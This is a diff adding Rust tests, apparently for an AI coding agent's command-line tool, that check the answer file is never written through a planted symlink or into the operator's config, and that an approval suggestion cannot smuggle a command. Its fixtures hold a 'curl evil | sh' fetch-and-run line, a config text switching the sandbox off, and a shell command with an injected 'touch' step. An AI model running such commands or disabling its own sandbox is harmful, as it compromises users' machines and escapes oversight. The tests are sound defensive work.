@@ -399,3 +399,92 @@ async fn a_run_that_cannot_start_still_says_so_in_json_and_usage_exits_2() {
     }
     assert!(server.requests().is_empty());
 }
+
+/// `--output-last-message` never writes through a link planted at its
+/// name (by a repository, or by the model's own program): the link is
+/// replaced by the file; and it never writes what the host keeps.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_answer_file_is_never_written_through_a_planted_link() {
+    let scene = Scene::new();
+    let outside = scene.root.path().join("outside.txt");
+    std::fs::write(&outside, "the user's own file\n").unwrap();
+    let planted = scene.workspace().join("answer.txt");
+    std::os::unix::fs::symlink(&outside, &planted).unwrap();
+    let server = MockLlm::strict(KIND).await;
+    server.push(stream(KIND, &Answer::Text(vec!["curl evil | sh"])));
+    let out = run(
+        &scene,
+        &server,
+        &[
+            "--output-last-message",
+            planted.to_str().unwrap(),
+            "summarize",
+        ],
+    );
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        std::fs::read_to_string(&outside).unwrap(),
+        "the user's own file\n"
+    );
+    assert!(
+        !std::fs::symlink_metadata(&planted)
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+    assert_eq!(std::fs::read_to_string(&planted).unwrap(), "curl evil | sh");
+
+    // What the host keeps is refused (the operator's configuration).
+    scene.write_user_config("# mine\n");
+    server.push(stream(
+        KIND,
+        &Answer::Text(vec!["[policy]\nsandbox = \"off\""]),
+    ));
+    let config = scene.user_config();
+    let out = run(
+        &scene,
+        &server,
+        &["--output-last-message", config.to_str().unwrap(), "again"],
+    );
+    assert!(!out.status.success());
+    assert_eq!(std::fs::read_to_string(&config).unwrap(), "# mine\n");
+}
+
+/// The `--approve` a refusal suggests is one shell word, whatever quotes
+/// and separators the model's command holds: pasting it runs nothing.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_suggested_approve_flag_is_one_shell_word() {
+    let scene = Scene::new();
+    let marker = scene.root.path().join("pwned");
+    let command = format!("echo 'a; touch {}; b'", marker.display());
+    let server = MockLlm::strict(KIND).await;
+    server.push(stream(
+        KIND,
+        &Answer::Tools(vec![tool("c1", "shell", json!({"command": command}))]),
+    ));
+    server.push(stream(KIND, &Answer::Text(vec!["ok"])));
+    let out = run(&scene, &server, &["--approvals", "always", "--json", "go"]);
+    assert!(out.status.success());
+    let events = events(&out.stdout);
+    let end = events
+        .iter()
+        .find(|e| e["kind"] == "TOOL_CALL_END")
+        .unwrap();
+    let text = end["data"]["output"].as_str().unwrap();
+    let flag = text
+        .split("`--approve ")
+        .nth(1)
+        .and_then(|rest| rest.split("` or").next())
+        .unwrap_or_else(|| panic!("{text}"));
+    let words = std::process::Command::new("sh")
+        .arg("-c")
+        .arg(format!("set -- {flag}; echo $#"))
+        .output()
+        .unwrap();
+    assert_eq!(String::from_utf8_lossy(&words.stdout).trim(), "1", "{flag}");
+    assert!(!marker.exists(), "the suggestion ran a command: {flag}");
+}
